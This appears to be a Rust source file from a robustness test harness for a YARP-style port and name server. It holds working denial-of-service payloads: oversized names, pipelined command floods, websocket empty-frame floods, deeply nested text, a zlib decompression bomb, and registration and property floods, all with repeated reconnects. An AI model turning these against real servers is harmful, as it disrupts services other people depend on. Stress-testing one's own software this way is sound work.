@@ -1,0 +1,365 @@
+//! Ways to abuse ports and name servers, written byte by byte.
+
+use std::io::{ErrorKind, Read, Write};
+use std::net::{SocketAddr, TcpStream};
+use std::sync::LazyLock;
+use std::time::{Duration, Instant};
+
+use flate2::Compression;
+use flate2::write::ZlibEncoder;
+use yarp_ports::{Network, Port, PortOptions};
+use yarp_wire::{Bottle, Value, WireVersion};
+
+use crate::Failure;
+use crate::victim::Targets;
+
+/// Time without progress after which a connection that the victim does not read counts as stuck.
+const STUCK_TIMEOUT: Duration = Duration::from_secs(3);
+/// Timeout of one write or read.
+const STEP_TIMEOUT: Duration = Duration::from_millis(100);
+/// Connections that an attacker opens again after the victim ended one.
+const MAX_RECONNECTS: usize = 2_000;
+/// Bytes of a piece that endless attacks repeat.
+const PIECE: usize = 64 << 10;
+
+/// Bytes that a compressed message expands to; just below what a process expands at a time.
+const EXPANDED: usize = 40 << 20;
+
+/// Kind of abuse.
+#[derive(Clone, Copy, Debug, Eq, PartialEq)]
+pub(crate) enum Attack {
+    EndlessNames,
+    LongNames,
+    Forms,
+    PipelinedStatus,
+    PipelinedLists,
+    EmptyFrames,
+    NestedText,
+    Zlib,
+    PortProperties,
+    NameProperties,
+    Registrations,
+}
+
+/// Result of an attack from one connection.
+pub(crate) struct Outcome {
+    /// Bytes that the victim's side of the connection took.
+    pub(crate) sent: usize,
+    /// The last connection, if it is still open: what the victim holds for it counts.
+    pub(crate) _open: Option<TcpStream>,
+}
+
+impl Attack {
+    pub(crate) const ALL: [Self; 11] = [
+        Self::EndlessNames,
+        Self::LongNames,
+        Self::Forms,
+        Self::PipelinedStatus,
+        Self::PipelinedLists,
+        Self::EmptyFrames,
+        Self::NestedText,
+        Self::Zlib,
+        Self::PortProperties,
+        Self::NameProperties,
+        Self::Registrations,
+    ];
+
+    pub(crate) fn name(self) -> &'static str {
+        match self {
+            Self::EndlessNames => "endless-names",
+            Self::LongNames => "long-names",
+            Self::Forms => "forms",
+            Self::PipelinedStatus => "pipelined-status",
+            Self::PipelinedLists => "pipelined-lists",
+            Self::EmptyFrames => "empty-frames",
+            Self::NestedText => "nested-text",
+            Self::Zlib => "zlib",
+            Self::PortProperties => "port-properties",
+            Self::NameProperties => "name-properties",
+            Self::Registrations => "registrations",
+        }
+    }
+
+    pub(crate) fn named(name: &str) -> Result<Self, Failure> {
+        let found = Self::ALL.into_iter().find(|attack| attack.name() == name);
+        let known = Self::ALL.map(Self::name).join(", ");
+        found.ok_or_else(|| format!("unknown attack {name}; known: {known}").into())
+    }
+
+    /// Sends `bytes` bytes of this abuse, reconnecting whenever the victim ends the connection.
+    pub(crate) fn run(self, targets: &Targets, number: usize, bytes: usize) -> Outcome {
+        let target = match self {
+            Self::Forms | Self::PipelinedLists | Self::NameProperties | Self::Registrations => {
+                targets.names
+            }
+            _ => targets.arm,
+        };
+        let mut attacker = Attacker::new(target, targets.names, bytes);
+        while attacker.goes_on() {
+            let round = attacker.reconnects;
+            self.one_connection(&mut attacker, &format!("{number}_{round}"));
+        }
+        Outcome {
+            sent: attacker.sent,
+            _open: attacker.stream,
+        }
+    }
+
+    /// Sends until the victim ends the connection or everything is sent.
+    fn one_connection(self, to: &mut Attacker, tag: &str) -> Option<()> {
+        to.connect()?;
+        match self {
+            Self::EndlessNames => {
+                to.send(b"CONNECT /")?;
+                to.repeat(&vec![b'a'; PIECE])
+            }
+            Self::LongNames => {
+                // Each connection is a new one.
+                to.send(format!("CONNECT /{}/{tag}\r\n", "n".repeat(3_900)).as_bytes())?;
+                to.end();
+                Some(())
+            }
+            Self::Forms => {
+                let lines = "cmd=d%0Alist%0Ah%0A".to_owned() + &"d%0Alist%0Ah%0A".repeat(1 << 16);
+                let head = "POST / HTTP/1.1\r\nHost: 127.0.0.1\r\n\
+                    Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ";
+                to.send(format!("{head}{}\r\n\r\n", lines.len()).as_bytes())?;
+                to.send(lines.as_bytes())?;
+                to.end_after_reply();
+                Some(())
+            }
+            Self::PipelinedStatus => {
+                to.greet(tag)?;
+                to.repeat(&b"*\r\n".repeat(PIECE / 3))
+            }
+            Self::PipelinedLists => {
+                to.greet(tag)?;
+                to.repeat(&b"d\r\nlist\r\n".repeat(PIECE / 9))
+            }
+            Self::EmptyFrames => {
+                to.send(
+                    b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
+                    Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n",
+                )?;
+                // A spelled command without its end, in one frame; then frames without content.
+                let content = 3_900_000_u64;
+                to.send(&[0x82, 0xff])?;
+                to.send(&content.to_be_bytes())?;
+                to.send(&[0; 4])?;
+                for _ in 0..content / 60_000 {
+                    to.send(&[b'a'; 60_000])?;
+                }
+                to.repeat(&[0x82, 0x80, 0, 0, 0, 0].repeat(PIECE / 6))
+            }
+            Self::NestedText => {
+                to.greet(tag)?;
+                let line = format!(
+                    "d\r\n{}{}{}\r\n",
+                    "(".repeat(199),
+                    "a ".repeat(1_900_000),
+                    ")".repeat(199)
+                );
+                to.repeat(line.as_bytes())
+            }
+            Self::Zlib => {
+                if let Err(error) = to.expanding_messages(tag) {
+                    eprintln!("abuse: zlib: {error}");
+                    to.stuck = true;
+                }
+                None
+            }
+            Self::PortProperties => {
+                to.greet(tag)?;
+                to.repeat_with(|count| {
+                    let value = "v".repeat(60_000);
+                    format!("a\r\n[prop] [set] /wam/rpc:i (k{count} {value})\r\n")
+                })
+            }
+            Self::NameProperties => {
+                to.greet(tag)?;
+                to.repeat_with(|count| {
+                    let name = count / 16;
+                    let value = "v".repeat(4_000);
+                    format!(
+                        "d\r\nregister /p{tag}/{name} tcp 127.0.0.1 9\r\nd\r\nset /p{tag}/{name} k{count} {value}\r\n"
+                    )
+                })
+            }
+            Self::Registrations => {
+                to.greet(tag)?;
+                let long = "n".repeat(200);
+                to.repeat_with(|count| {
+                    format!("d\r\nregister /r{tag}/{count}/{long} tcp 127.0.0.1 9\r\n")
+                })
+            }
+        }
+    }
+}
+
+/// Returns a message that takes a thousandth of what it expands to.
+fn expanding_message() -> Bottle {
+    static MESSAGE: LazyLock<Bottle> = LazyLock::new(|| {
+        let text = Bottle::of("x".repeat(EXPANDED)).encode(WireVersion::V3);
+        let mut encoder = ZlibEncoder::new(Vec::new(), Compression::default());
+        encoder.write_all(&text).expect("memory takes it");
+        let compressed = encoder.finish().expect("memory takes it");
+        let size = i32::try_from(text.len()).expect("it is small");
+        Bottle::from_iter([Value::Int32(size), Value::Blob(compressed.into())])
+    });
+    MESSAGE.clone()
+}
+
+/// A connection, opened again as often as the victim ends it, and what is left to send.
+struct Attacker {
+    target: SocketAddr,
+    names: SocketAddr,
+    bytes: usize,
+    sent: usize,
+    reconnects: usize,
+    stuck: bool,
+    stream: Option<TcpStream>,
+}
+
+impl Attacker {
+    fn new(target: SocketAddr, names: SocketAddr, bytes: usize) -> Self {
+        Self {
+            target,
+            names,
+            bytes,
+            sent: 0,
+            reconnects: 0,
+            stuck: false,
+            stream: None,
+        }
+    }
+
+    fn goes_on(&self) -> bool {
+        self.sent < self.bytes && self.reconnects < MAX_RECONNECTS && !self.stuck
+    }
+
+    fn connect(&mut self) -> Option<()> {
+        self.reconnects += 1;
+        let stream = TcpStream::connect_timeout(&self.target, STUCK_TIMEOUT).ok()?;
+        stream.set_write_timeout(Some(STEP_TIMEOUT)).ok()?;
+        stream.set_read_timeout(Some(STEP_TIMEOUT)).ok()?;
+        self.stream = Some(stream);
+        Some(())
+    }
+
+    /// Writes all bytes; `None` if the connection ended, is stuck, or everything is sent.
+    fn send(&mut self, mut bytes: &[u8]) -> Option<()> {
+        let mut progress = Instant::now();
+        while !bytes.is_empty() {
+            match self.stream.as_mut()?.write(bytes) {
+                Ok(0) => return self.ended(),
+                Ok(count) => {
+                    self.sent += count;
+                    bytes = &bytes[count..];
+                    progress = Instant::now();
+                }
+                Err(error)
+                    if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) =>
+                {
+                    if progress.elapsed() > STUCK_TIMEOUT {
+                        self.stuck = true;
+                        return None;
+                    }
+                }
+                Err(_) => return self.ended(),
+            }
+        }
+        Some(())
+    }
+
+    fn ended(&mut self) -> Option<()> {
+        self.stream = None;
+        None
+    }
+
+    /// Sends the same bytes until everything is sent; does not read.
+    fn repeat(&mut self, bytes: &[u8]) -> Option<()> {
+        while self.sent < self.bytes {
+            self.send(bytes)?;
+        }
+        Some(())
+    }
+
+    /// Sends texts that count up until everything is sent; reads what is replied.
+    fn repeat_with(&mut self, mut text: impl FnMut(usize) -> String) -> Option<()> {
+        let stream = self.stream.as_ref()?.try_clone().ok()?;
+        let reading = std::thread::spawn(move || {
+            let mut stream = stream;
+            let mut buffer = vec![0; PIECE];
+            loop {
+                match stream.read(&mut buffer) {
+                    Ok(0) => break,
+                    Ok(_) => {}
+                    Err(error)
+                        if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {}
+                    Err(_) => break,
+                }
+            }
+        });
+        let mut count = 0;
+        let mut result = Some(());
+        while self.sent < self.bytes && result.is_some() {
+            result = self.send(text(count).as_bytes());
+            count += 1;
+        }
+        if let Some(stream) = &self.stream {
+            // The reader ends with its end; what was registered stays.
+            let _ = stream.shutdown(std::net::Shutdown::Both);
+        }
+        let _ = reading.join();
+        result
+    }
+
+    /// Begins a connection of the text carrier.
+    fn greet(&mut self, tag: &str) -> Option<()> {
+        self.send(format!("CONNECT /abuse/{tag}\r\n").as_bytes())
+    }
+
+    /// Writes messages that a monitor of the victim expands to about a thousand times their size.
+    fn expanding_messages(&mut self, tag: &str) -> Result<(), Failure> {
+        let message = expanding_message();
+        let size = message.encode(WireVersion::V3).len();
+        let carrier = "tcp+recv.portmonitor+type.dll+file.bottle_compression_zlib";
+        let target = format!("{carrier}://{}/wam/rpc:i", self.target);
+        let runtime = tokio::runtime::Builder::new_current_thread()
+            .enable_all()
+            .build()?;
+        runtime.block_on(async {
+            let name = format!("/abuse/{tag}");
+            let network = Network::at(&self.names.ip().to_string(), self.names.port());
+            let port = Port::open(&network, &name, PortOptions::new()).await?;
+            port.connect(&target).await?;
+            while self.sent < self.bytes && port.write(&message).await == 1 {
+                self.sent += size;
+            }
+            port.close().await;
+            Ok(())
+        })
+    }
+
+    fn end(&mut self) {
+        self.stream = None;
+    }
+
+    /// Reads until the victim ends the connection or stops sending.
+    fn end_after_reply(&mut self) {
+        let Some(mut stream) = self.stream.take() else {
+            return;
+        };
+        let mut buffer = vec![0; PIECE];
+        let mut progress = Instant::now();
+        while progress.elapsed() < STUCK_TIMEOUT {
+            match stream.read(&mut buffer) {
+                Ok(0) => return,
+                Ok(_) => progress = Instant::now(),
+                Err(error)
+                    if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {}
+                Err(_) => return,
+            }
+        }
+    }
+}
